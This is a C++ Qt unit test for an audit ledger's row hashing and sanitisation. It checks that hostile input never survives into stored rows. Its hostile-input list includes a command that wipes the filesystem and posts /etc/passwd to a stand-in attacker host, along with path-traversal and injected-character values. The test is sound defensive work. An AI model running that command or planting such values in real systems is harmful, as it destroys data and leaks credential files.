// SPDX-License-Identifier: Apache-2.0
#include "server/audit/row.h"
#include "tests/support/audit_records.h"

using namespace assay;
using namespace assay::audit;
using namespace std::chrono_literals;
using test::kScopeA;

class TestLedgerRows : public QObject
{
    Q_OBJECT

private slots:
    void hashesTheBytesThatTheManualSays();
    void everyMemberIsHashed();
    void fieldsCannotRunIntoEachOther();
    void aHostileRecordLeavesNothingOfItself();
    void keepsWhatHasItsForm();
    void refusesARawScope();
    void namesAreUnique();
};

namespace {

Row sample()
{
    Row row;
    row.fingerprint = kScopeA;
    row.seq = 2;
    row.at = Timestamp(1'795'000'000'000ms);
    row.actor = "ann";
    row.actorType = "principal";
    row.authSource = "token";
    row.resourceType = "command";
    row.resource = test::kCommandId;
    row.operation = "command.execute";
    row.decision = "executed";
    row.run = test::kRunId;
    row.reservation = 1;
    row.metadata = {.surface = "api",
                    .cwd = "/workspace",
                    .reason = "",
                    .exitCode = 0,
                    .termination = "exited",
                    .baseDigest = "host",
                    .egressMode = "none",
                    .egressTotalBytes = 0,
                    .wallMs = 12,
                    .workspaceKib = 4};
    row.previous = genesisOf(kScopeA);
    return row;
}

} // namespace

// The vector of docs/ledger.md.
void TestLedgerRows::hashesTheBytesThatTheManualSays()
{
    QCOMPARE(genesisOf(kScopeA).hex(), "8f16e8d99a6e136d87b41ccdc4afb74e5f8160a3616acba3ddf39ae3749b7acf");
    QCOMPARE(encodeRow(sample()).size(), std::size_t{282});
    QCOMPARE(hashOf(sample()).hex(), "38398ed670a142fbc4deafe4c5d4d8cf7ad0d3b55672fc190ef677c2897e1738");
}

void TestLedgerRows::everyMemberIsHashed()
{
    const Digest before = hashOf(sample());
    const auto changed = [&](auto change) {
        Row row = sample();
        change(row);
        return hashOf(row) != before;
    };
    QVERIFY(changed([](Row& row) { row.fingerprint = test::kScopeB; }));
    QVERIFY(changed([](Row& row) { row.seq = 3; }));
    QVERIFY(changed([](Row& row) { row.at += 1ms; }));
    QVERIFY(changed([](Row& row) { row.previous = Digest(); }));
    QVERIFY(changed([](Row& row) { row.reservation.reset(); }));
    QVERIFY(changed([](Row& row) { row.occurrences = 2; }));
    for (std::string Row::* text : {&Row::actor, &Row::actorType, &Row::authSource, &Row::resourceType, &Row::resource,
                                    &Row::operation, &Row::decision, &Row::run})
        QVERIFY(changed([&](Row& row) { (row.*text) += "x"; }));
    for (std::string Metadata::* text : {&Metadata::surface, &Metadata::cwd, &Metadata::reason, &Metadata::termination,
                                         &Metadata::baseDigest, &Metadata::egressMode})
        QVERIFY(changed([&](Row& row) { (row.metadata.*text) += "x"; }));
    for (std::optional<std::int64_t> Metadata::* number :
         {&Metadata::exitCode, &Metadata::egressTotalBytes, &Metadata::wallMs, &Metadata::workspaceKib}) {
        QVERIFY(changed([&](Row& row) { (row.metadata.*number) = 77; }));
        QVERIFY(changed([&](Row& row) { (row.metadata.*number).reset(); }));
    }
}

void TestLedgerRows::fieldsCannotRunIntoEachOther()
{
    Row one = sample();
    Row other = sample();
    one.actor = "ann";
    one.actorType = "principal";
    other.actor = "annp";
    other.actorType = "rincipal";
    QVERIFY(hashOf(one) != hashOf(other));
}

// What must never stand in the ledger, tried in every member that takes text.
void TestLedgerRows::aHostileRecordLeavesNothingOfItself()
{
    const std::string hostile[] = {"rm -rf /; curl -d @/etc/passwd evil.example.com",
                                   "assay_c2VjcmV0IHRva2VuIG9mIHNvbWVib2R5LCBuZXZlciBrZXB0",
                                   "evil.example.com",
                                   "10.1.2.3:443",
                                   "line\nbreak",
                                   std::string("nul\0byte", 8),
                                   "\xff\xfe",
                                   "{\"tenant\":\"acme\"}",
                                   std::string(1 << 20, 'x')};
    for (const std::string& text : hostile) {
        for (int type = 0; type <= static_cast<int>(ResourceType::Server); ++type) {
            Record record = test::published(kScopeA);
            record.resourceType = static_cast<ResourceType>(type);
            record.resource = record.run = text;
            record.metadata = {.surface = text,
                               .cwd = text,
                               .reason = text,
                               .termination = text,
                               .baseDigest = text,
                               .egressMode = text};
            const auto row = rowOf(record);
            ASSAY_OK(row);
            const std::string bytes = encodeRow(*row);
            QVERIFY2(!bytes.contains(text), text.substr(0, 60).c_str());
            QVERIFY(bytes.size() < 1024);
            QCOMPARE(row->metadata.cwd, "other");
        }
    }
    for (const char* cwd : {"/workspace/../etc", "/etc", "/workspacex", "workspace", "/skills/a\nb", "/home/ann"}) {
        Record record = test::published(kScopeA);
        record.metadata.cwd = cwd;
        QCOMPARE(rowOf(record)->metadata.cwd, "other");
    }
    Record secret = test::published(kScopeA);
    secret.actor = hostile[1];
    QCOMPARE(rowOf(secret)->actor, "other");
    secret.actor = std::string(257, 'a');
    QCOMPARE(rowOf(secret)->actor, "other");
}

void TestLedgerRows::keepsWhatHasItsForm()
{
    Record record = test::command(kScopeA, Decision::Executed);
    record.metadata = sample().metadata;
    record.metadata.cwd = "/workspace/out";
    record.metadata.baseDigest = Digest::ofBytes("base").text();
    const auto row = rowOf(record);
    ASSAY_OK(row);
    QCOMPARE(row->resource, test::kCommandId);
    QCOMPARE(row->run, test::kRunId);
    QVERIFY(row->metadata == record.metadata);
    const auto resource = [](ResourceType type, const char* text) {
        Record of = test::published(kScopeA);
        of.resourceType = type;
        of.resource = text;
        return rowOf(of)->resource == text;
    };
    QVERIFY(resource(ResourceType::Revision, "demo@rev_01JAAAAAAAAAAAAAAAAAAAAAAA"));
    QVERIFY(resource(ResourceType::Route, "POST:/v1/skills/{name}/revisions/{rev}/promote"));
    QVERIFY(resource(ResourceType::Driver, "bubblewrap"));
    QVERIFY(resource(ResourceType::Token, "tok_01JAAAAAAAAAAAAAAAAAAAAAAA"));
    QVERIFY(!resource(ResourceType::Token, "demo"));
}

void TestLedgerRows::refusesARawScope()
{
    for (const char* scope : {"acme", "sc_acme", "sc_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"})
        ASSAY_FAILS(rowOf(test::published(scope)), ErrorCode::Internal);
    ASSAY_OK(rowOf(test::published("")));
}

void TestLedgerRows::namesAreUnique()
{
    std::set<std::string_view> names;
    for (int i = 0; i <= static_cast<int>(Operation::RequestAuthorize); ++i)
        QVERIFY(names.insert(nameOf(static_cast<Operation>(i))).second);
    QVERIFY(isOperation("command.execute") && !isOperation("command") && isDecision("outcome_unknown"));
}

QTEST_APPLESS_MAIN(TestLedgerRows)
#include "tst_ledger_rows.moc"
